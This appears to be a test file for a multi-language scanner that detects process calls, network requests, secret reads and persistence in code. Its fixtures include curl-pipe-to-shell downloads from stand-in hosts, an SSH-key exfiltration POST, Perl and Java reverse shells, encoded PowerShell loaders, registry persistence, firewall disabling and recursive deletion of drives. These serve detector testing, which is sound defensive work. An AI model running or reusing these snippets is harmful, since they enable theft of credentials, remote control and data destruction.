import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import applescript from '../../../scanner/languages/tokens/applescript.ts';
import batch from '../../../scanner/languages/tokens/batch.ts';
import tokens from '../../../scanner/languages/tokens/index.ts';
import perl from '../../../scanner/languages/tokens/perl.ts';
import { ROW_OF } from '../../../scanner/languages/tokens/syntax.ts';
import { show } from '../../../scanner/value.ts';
import { badSpans, type Read, read } from './data-help.ts';

const of = (tag: string, source: string): Promise<Read> => read(tokens, `x.${tag}`, source, { as: tag });
/** Texts handed to shell and batch. */
const shell = (result: Read): string[] =>
  result.given.filter((unit) => unit.language === 'shell' || unit.language === 'batch').map((unit) => unit.text);

describe('process calls in languages without a grammar', () => {
  const table: readonly (readonly [tag: string, source: string, expected: string])[] = [
    ['lua', 'os.execute("curl https://x.example/a " .. "| sh")', 'curl https://x.example/a | sh'],
    ['lua', 'local h = io.popen("id -u")', 'id -u'],
    ['java', 'class A { void f() throws Exception { Runtime.getRuntime().exec("curl https://x.example/a"); } }', 'curl https://x.example/a'],
    ['java', 'new ProcessBuilder("bash", "-c", "curl https://x.example/a | sh").start();', "bash -c 'curl https://x.example/a | sh'"],
    ['kotlin', 'val u = "https://x.example"\nProcessBuilder(listOf("curl", "$u/a")).start()', 'curl https://x.example/a'],
    [
      'rust',
      'fn main() { let mut c = Command::new("sh"); c.arg("-c").arg("curl https://x.example/a | sh"); c.spawn(); }',
      "sh -c 'curl https://x.example/a | sh'",
    ],
    ['rust', 'std::process::Command::new("curl").args(["-d", "@x", "https://x.example"]).output()?;', 'curl -d @x https://x.example'],
    ['go', 'func main() { exec.Command("sh", "-c", "curl https://x.example/a | sh").Run() }', "sh -c 'curl https://x.example/a | sh'"],
    ['c', '#include <stdlib.h>\nint main(){ system("curl https://x.example/a" " | sh"); }', 'curl https://x.example/a | sh'],
    ['c', 'execl("/bin/sh", "sh", "-c", "id", NULL);', '/bin/sh -c id'],
    ['csharp', 'Process.Start("cmd.exe", "/c whoami");', 'cmd.exe /c whoami'],
    ['csharp', 'var p = new Process(); p.StartInfo.FileName = "bash"; p.StartInfo.Arguments = "-c \\"id\\"";', 'bash -c \'"id"\''],
    [
      'swift',
      'let t = Process()\nt.launchPath = "/bin/sh"\nt.arguments = ["-c", "curl https://x.example/a | sh"]\nt.launch()',
      "/bin/sh -c 'curl https://x.example/a | sh'",
    ],
    ['dart', "Process.run('sh', ['-c', 'id']);", 'sh -c id'],
    ['r', 'cmd <- paste0("curl https://x.example/", "a | sh")\nsystem(cmd)', 'curl https://x.example/a | sh'],
    ['julia', 'run(`curl https://x.example/a`)', 'curl https://x.example/a'],
    ['ruby', 'u = "https://x.example"\nsystem "curl #{u}/a | sh"', 'curl https://x.example/a | sh'],
    ['ruby', 'x = `id -u`', 'id -u'],
    ['php', '<?php $c = "curl https://x.example/a"; shell_exec($c . " | sh");', 'curl https://x.example/a | sh'],
    ['vbs', 'Set s = CreateObject("WScript.Shell")\ns.Run "powershell -c " & "iex", 0', 'powershell -c iex'],
    ['awk', 'BEGIN { system("curl https://x.example/a | sh") }', 'curl https://x.example/a | sh'],
    ['tcl', 'exec curl https://x.example/a', 'curl https://x.example/a'],
    ['scala', 'val p = Process("id -u")', "'id -u'"],
  ];
  for (const [tag, source, expected] of table) {
    it(`${tag}: ${source.slice(0, 50).replace(/\n/g, ' ')}`, async () => {
      expect(shell(await of(tag, source))).toContain(expected);
    });
  }

  it('stand at their own place when the text is literal', async () => {
    const source = 'fn main() {}\n// x\nos.execute("curl https://x.example/a | sh")\n';
    const result = await of('lua', source);
    expect(result.text(result.units.find((unit) => unit.language === 'shell')!)).toBe('curl https://x.example/a | sh');
  });
});

describe('other abilities', () => {
  it('requests, environment, files, decoding', async () => {
    const rust = await of(
      'rs',
      'let k = std::env::var("API_KEY")?; let r = reqwest::blocking::Client::new(); let b = std::fs::read_to_string("/home/u/.ssh/id_rsa")?; let x = ureq::post("https://x.example/u").send_string(&b)?;',
    );
    expect(rust.of('env').map((fact) => show(fact.name))).toEqual(['API_KEY']);
    expect(rust.of('read').map((fact) => show(fact.path))).toEqual(['/home/u/.ssh/id_rsa']);
    expect(rust.of('request').map((fact) => [show(fact.url), fact.method, fact.sends])).toEqual([['https://x.example/u', 'POST', true]]);
    // The data that is read reaches the body of the request.
    const readCell = rust.of('read')[0]!.outs![0]!.cell;
    expect(rust.edges).toBeGreaterThan(0);
    expect(readCell).toMatch(/^local:/);
    const decoded = await of(
      'java',
      `Runtime.getRuntime().exec(new String(Base64.getDecoder().decode("${Buffer.from('curl https://x.example/a | sh').toString('base64')}")));`,
    );
    expect(shell(decoded)).toEqual(['curl https://x.example/a | sh']);
  });

  it('sockets wired to a shell', async () => {
    const java = await of('java', 'Socket s = new Socket("203.0.113.9", 4444); Process p = new ProcessBuilder("/bin/sh").start();');
    expect(java.of('exec').some((fact) => fact.socket)).toBe(true);
    expect(java.of('request').map((fact) => [fact.method, show(fact.url)])).toEqual([['TCP', 'tcp://203.0.113.9:4444']]);
    expect((await of('java', 'Process p = new ProcessBuilder("/bin/sh").start();')).of('exec').some((fact) => fact.socket)).toBe(false);
  });

  it('honest code states little', async () => {
    const go = await of('go', 'package main\nimport "fmt"\nfunc main() { fmt.Println("run system(x) now") }\n');
    expect(go.facts).toEqual([]);
    const swift = await of('swift', 'struct A { let name = String(describing: 1) }\n');
    expect(swift.facts).toEqual([]);
  });

  it('comments are prose', async () => {
    const result = await of('go', '// Please send the key to the host below\npackage main\n');
    expect(result.given.map((unit) => [unit.language, unit.text.trim()])).toEqual([['prose', 'Please send the key to the host below']]);
  });
});

describe('Perl', () => {
  const cases: readonly (readonly [source: string, expected: string])[] = [
    ['my $u = "https://x.example"; system("curl $u/a | sh");', 'curl https://x.example/a | sh'],
    ['my $o = `id -u`;', 'id -u'],
    ['my $o = qx{curl https://x.example/a | sh};', 'curl https://x.example/a | sh'],
    ["exec 'sh', '-c', 'id';", 'sh -c id'],
    ['open(my $fh, "-|", "curl https://x.example/a") or die;', 'curl https://x.example/a'],
    ['open(FH, "curl https://x.example/a |");', 'curl https://x.example/a'],
    [
      `use MIME::Base64; system(decode_base64("${Buffer.from('curl https://x.example/b | sh').toString('base64')}"));`,
      'curl https://x.example/b | sh',
    ],
    ['system <<"EOT";\ncurl https://x.example/a | sh\nEOT\nprint "it\'s fine";', 'curl https://x.example/a | sh'],
  ];
  for (const [source, expected] of cases)
    it(source.slice(0, 60).replace(/\n/g, ' '), async () =>
      expect(shell(await read(perl, 'x.pl', source)).map((text) => text.trim())).toContain(expected),
    );

  it('network, environment, eval and sockets', async () => {
    const result = await read(
      perl,
      'x.pl',
      'use LWP::UserAgent; my $ua = LWP::UserAgent->new; my $r = $ua->post("https://x.example/u", { k => $ENV{API_KEY} }); eval $r->content; my %all = %ENV;',
    );
    expect(result.of('request').map((fact) => [show(fact.url), fact.method])).toEqual([['https://x.example/u', 'POST']]);
    expect(
      result
        .of('env')
        .map((fact) => show(fact.name))
        .sort(),
    ).toEqual(['*', 'API_KEY']);
    expect(result.of('exec').map((fact) => fact.how)).toContain('eval');
    const reverse = await read(
      perl,
      'r.pl',
      'use Socket; socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp")); connect(S,sockaddr_in(4444,inet_aton("203.0.113.9"))); open(STDIN,">&S"); open(STDOUT,">&S"); exec("/bin/sh -i");',
    );
    expect(reverse.of('exec').some((fact) => fact.socket)).toBe(true);
  });

  it('patterns and comments hide no code and make none', async () => {
    const result = await read(
      perl,
      'x.pl',
      's/a"b/c/g; m{`id`}; $x =~ tr/a-z/A-Z/; my $y = 4 / 2; system("id"); # system("no")\n=pod\nsystem("never")\n=cut\nsystem("whoami");',
    );
    expect(shell(result)).toEqual(['id', 'whoami']);
  });
});

describe('AppleScript', () => {
  it('shell scripts, elevation, dialogs, the clipboard', async () => {
    const source =
      'set u to "https://x.example"\nset r to do shell script "curl -fsSL " & quoted form of u & "/a | sh" with administrator privileges\ndisplay dialog "Password" default answer "" with hidden answer\nset c to the clipboard\ntell application "Terminal" to do script "id"\nopen location "https://x.example/?q=" & c\n';
    const result = await read(applescript, 'x.applescript', source);
    expect(shell(result)).toEqual(['curl -fsSL https://x.example/a | sh', 'id']);
    expect(result.of('exec').map((fact) => fact.elevated)).toContain('osascript-admin');
    expect(result.of('capture').map((fact) => fact.what)).toEqual(['keystrokes', 'clipboard']);
    expect(result.of('request').map((fact) => show(fact.url))).toEqual(['https://x.example/?q=${clipboard}']);
  });

  it('literal scripts keep their place', async () => {
    const result = await read(applescript, 'x.scpt', 'do shell script "curl https://x.example/a | sh"');
    expect(result.text(result.units.find((unit) => unit.language === 'shell')!)).toBe('curl https://x.example/a | sh');
  });
});

describe('batch', () => {
  const run = (source: string): Promise<Read> => read(batch, 'x.bat', source);

  it('decodes and hands on PowerShell', async () => {
    const encoded = Buffer.from('iex (iwr https://x.example/a)', 'utf16le').toString('base64');
    const result = await run(
      `@echo off\r\npowershell -nop -w hidden -enc ${encoded}\r\npowershell -ExecutionPolicy Bypass -Command "iwr https://x.example/b | iex"\r\n`,
    );
    expect(result.given.map((unit) => [unit.language, unit.text, unit.unit.unwrapped.join(' ')])).toEqual([
      ['powershell', 'iex (iwr https://x.example/a)', 'powershell -enc base64'],
      ['powershell', 'iwr https://x.example/b | iex', 'powershell -c'],
    ]);
    expect(result.text(result.given[1]!.unit)).toBe('iwr https://x.example/b | iex');
  });

  it('puts pieces together', async () => {
    const result = await run('set a=cert\nset b=util\n%a%%b% -url^cache -f https://x.example/a %TEMP%\\a.exe\nstart "" %TEMP%\\a.exe\n');
    expect(result.of('request').map((fact) => [fact.tool, show(fact.url)])).toEqual([['certutil', 'https://x.example/a']]);
    const written = result.of('write')[0]!.outs![0]!.cell;
    expect(result.of('exec').some((fact) => fact.ins?.some((port) => port.cell === written && port.role === 'code'))).toBe(true);
    expect((await run('set x=abcpowershell\n%x:~3% -c whoami')).given.map((unit) => unit.text)).toEqual(['whoami']);
  });

  it('persistence, protection, deletion', async () => {
    const result = await run(
      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d "C:\\x.exe" /f\nschtasks /create /tn x /tr "C:\\y.exe" /sc minute\nnetsh advfirewall set allprofiles state off\ndel /s /q C:\\Users\nif exist x (rd /s /q D:\\) else echo no\nset > out.txt\n',
    );
    expect(result.of('persist').map((fact) => fact.mechanism)).toEqual(['run-key', 'scheduled-task']);
    expect(result.of('config').map((fact) => fact.effect)).toEqual(['disable-protection']);
    expect(result.of('delete').map((fact) => [show(fact.path), fact.recursive])).toEqual([
      ['C:\\Users', true],
      ['D:\\', true],
    ]);
    expect(result.of('env').map((fact) => show(fact.name))).toEqual(['*']);
  });

  it('runs what lies on another machine', async () => {
    for (const source of [
      'rundll32 \\\\files.example@SSL\\share\\x.dll,Start',
      '\\\\files.example\\s\\run.exe',
      'net use Z: \\\\files.example@443\\DavWWWRoot\\e && Z:\\run.bat',
    ]) {
      const result = await read(batch, 'x.bat', source);
      expect(result.of('request').map((fact) => show(fact.url))[0], source).toMatch(/^smb:\/\/files\.example\//);
      expect(result.of('exec').some((fact) => fact.code === 'file')).toBe(true);
    }
    expect((await read(batch, 'x.bat', 'net use Z: \\\\fileserver\\tools\ncopy \\\\srv.example\\s\\a.txt c:\\b.txt')).of('request')).toEqual([]);
  });
  it('runs what a fetched answer says', async () => {
    const loop = await read(batch, 'x.bat', `for /f "tokens=*" %i in ('nslookup -q=txt a.example ^| findstr Name') do cmd /c %i`);
    expect(loop.of('exec').some((fact) => fact.code === 'argument' && fact.how === 'shell')).toBe(true);
    const honest = await read(
      batch,
      'x.bat',
      `for /f %%i in ('git rev-parse HEAD') do set X=%%i\nfor /f %%i in ('curl -s https://x.example/v') do echo %%i`,
    );
    expect(honest.of('exec').some((fact) => fact.code === 'argument')).toBe(false);
  });
  it('honest files state only programs', async () => {
    const result = await run(
      '@echo off\nrem build\ncd /d %~dp0\npython -m venv .venv\ncall .venv\\Scripts\\activate\npip install -r requirements.txt\n',
    );
    expect(result.facts.every((fact) => fact.kind === 'exec')).toBe(true);
  });
});

describe('hostile code', () => {
  it('never throws, never leaves the file', async () => {
    const piece = fc.constantFrom(
      'system',
      'exec',
      'Command::new',
      '.arg',
      '(',
      ')',
      '[',
      ']',
      '{',
      '}',
      '"',
      "'",
      '`',
      'x',
      '=',
      '+',
      '.',
      '..',
      ',',
      ';',
      '\n',
      '\\',
      '$',
      '%a%',
      '#{',
      '//',
      '/*',
      '*/',
      '--',
      'q',
      'qx',
      's/',
      '<<EOT',
      'EOT',
      'open',
      '&',
      'do shell script ',
      'set x to ',
      '^',
      '!',
      ':',
      'powershell -enc ',
      '<<<',
    );
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...new Set(Object.values(ROW_OF)), 'perl', 'applescript', 'batch'),
        fc.array(piece, { maxLength: 50 }),
        async (tag, pieces) => {
          const source = pieces.join('');
          const result =
            tag === 'perl'
              ? await read(perl, 'x.pl', source)
              : tag === 'applescript'
                ? await read(applescript, 'x.scpt', source)
                : tag === 'batch'
                  ? await read(batch, 'x.bat', source)
                  : await of(tag, source);
          expect(result.of('opaque').filter((fact) => fact.why === 'crash')).toEqual([]);
          expect(badSpans(result, source.length)).toEqual([]);
        },
      ),
      { numRuns: 1_500 },
    );
  });

  it('costs linear time', async () => {
    const bombs = [
      'system('.repeat(20_000),
      'a.b().'.repeat(20_000),
      'x = x + "a"\n'.repeat(10_000),
      '"'.repeat(100_000),
      '('.repeat(200_000),
      'Command::new("a").arg("b");\n'.repeat(5_000),
      'reqwest::get("https://x.example").body(x);\n'.repeat(5_000),
      "'".repeat(100_000),
      '/'.repeat(100_000),
      '${'.repeat(50_000),
      'a & '.repeat(20_000),
      '%a%'.repeat(50_000),
      'set a=%a%%a%\n'.repeat(2_000),
      '<<EOT\n'.repeat(20_000),
      'qx{'.repeat(20_000),
      `${'f('.repeat(3_000)}"x"${')'.repeat(3_000)}`,
    ];
    for (const bomb of bombs) {
      for (const [language, name, as] of [
        [tokens, 'x.rs', 'rust'],
        [tokens, 'x.rb', 'ruby'],
        [tokens, 'x.lua', 'lua'],
        [perl, 'x.pl', 'perl'],
        [applescript, 'x.scpt', 'applescript'],
        [batch, 'x.bat', 'batch'],
      ] as const) {
        const started = performance.now();
        const result = await read(language, name, bomb, { as });
        expect(
          result
            .of('opaque')
            .filter((fact) => fact.why === 'crash')
            .map((fact) => fact.detail),
        ).toEqual([]);
        expect(performance.now() - started, `${as} ${bomb.slice(0, 20)}`).toBeLessThan(60_000);
      }
    }
  }, 120_000);
});
